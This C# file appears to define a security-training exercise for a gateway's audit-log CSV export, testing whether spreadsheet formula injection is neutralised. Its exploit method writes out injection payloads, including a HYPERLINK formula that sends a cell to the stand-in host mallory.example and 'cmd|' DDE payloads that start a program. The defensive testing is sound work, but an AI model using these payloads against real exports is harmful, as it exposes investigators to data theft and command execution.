using System.Text.Json;
using Gatehouse.Audit;
using Gatehouse.Audit.Search;
using Gatehouse.Range.Running;
using Gatehouse.Range.Screens;

namespace Gatehouse.Range.Exercises;

/// <summary>The name in a refused attempt is a formula in the spreadsheet of whoever reads the log.</summary>
public sealed class LogFormula : OfflineExercise<Func<AuditEntry, string>>
{
    private static readonly DateTimeOffset At = new(2026, 11, 22, 8, 0, 0, TimeSpan.Zero);

    /// <inheritdoc />
    public override string Id => "log-formula";

    /// <inheritdoc />
    public override string Title => "A formula in the exported log";

    /// <inheritdoc />
    public override IReadOnlyList<string> Owasp => ["MCP08"];

    /// <inheritdoc />
    public override IReadOnlyList<string> Rows => ["ID-08", "AU-05"];

    /// <inheritdoc />
    public override string Protection => "command audit search, guarded cells of CSV";

    /// <inheritdoc />
    public override ExerciseSteps Steps { get; } = new(
        "A tool exports its log as CSV, correctly quoted. An investigator opens the file in a spreadsheet.",
        "Mallory is refused with a tool whose name is a formula. The spreadsheet calculates it when the file is opened: it sends cells of other people "
            + "to Mallory, or starts a program. Mallory also puts the formula into the client id and the method.",
        "In Gatehouse's export, a cell that a spreadsheet would calculate begins with an apostrophe, and no name can end its cell.",
        "With cells that are only quoted, the spreadsheet calculates the formulas again.");

    internal override Task<Func<AuditEntry, string>> OpenUnguardedAsync(RangeFixture fixture) => Exporter(static entry =>
        string.Join(',', ((string?[])[entry.Method, entry.Name, entry.ClientId, entry.Code]).Select(cell => EntryCsv.Quoted(cell ?? ""))));

    internal override Task<Func<AuditEntry, string>> OpenGuardedAsync(RangeFixture fixture) =>
        Exporter(static entry => EntryCsv.Header + "\n" + EntryCsv.Line(Logged(entry)));

    internal override Task<Func<AuditEntry, string>> OpenReplacedAsync(RangeFixture fixture) =>
        Exporter(static entry => EntryCsv.Header + "\n" + EntryCsv.Line(Logged(entry), EntryCsv.Quoted));

    internal override Task<IReadOnlyList<Attempt>> ExploitAsync(Func<AuditEntry, string> subject, RangeFixture fixture)
    {
        (string Name, string Text)[] formulas =
        [
            ("link", $"=HYPERLINK(\"https://mallory.example/?\"&A1,\"{fixture.Canary.Secret}\")"), ("program", $"+cmd|'/c {fixture.Canary.Secret}'!A0"),
            ("number", $"-1+cmd|'{fixture.Canary.Secret}'!A0"), ("function", $"@SUM(1)+\"{fixture.Canary.Secret}\""),
            ("tab", $"\t=1+\"{fixture.Canary.Secret}\""),
        ];
        return Task.FromResult<IReadOnlyList<Attempt>>(
        [
            .. formulas.Select(one => Run(subject, "tool: " + one.Name, Refused with { Name = one.Text }, fixture)),
            Run(subject, "client id", Refused with { ClientId = formulas[0].Text }, fixture),
            Run(subject, "method", Refused with { Method = formulas[0].Text }, fixture),
        ]);
    }

    internal override Task<bool> UseHonestlyAsync(Func<AuditEntry, string> subject, RangeFixture fixture)
    {
        var cells = Spreadsheet.Cells(subject(Refused with { Name = "tea, \"green\"\na = 1" })).ToList();
        return Task.FromResult(cells.Contains("tea, \"green\"\na = 1") && cells.Contains("GH4003"));
    }

    private static Task<Func<AuditEntry, string>> Exporter(Func<AuditEntry, string> export) => Task.FromResult(export);

    private static AuditEntry Refused => new()
    {
        Kind = AuditEntryKind.Ended,
        ExchangeId = "01kaf7",
        At = At,
        Method = "tools/call",
        ClientId = "desk",
        Code = "GH4003",
        Attempts = [new AuditAttempt(AttemptPlace.Mcp, null)],
    };

    private static JsonElement Logged(AuditEntry entry) => JsonSerializer.Deserialize<JsonElement>(AuditEntryFormat.Bytes(entry, 1));

    private static Attempt Run(Func<AuditEntry, string> subject, string name, AuditEntry entry, RangeFixture fixture)
    {
        var runs = Spreadsheet.FormulasIn(subject(entry)).Any(formula => formula.Contains(fixture.Canary.Secret, StringComparison.Ordinal));
        return new Attempt(name, runs, runs ? "the spreadsheet calculates it" : "the spreadsheet shows it as text");
    }
}
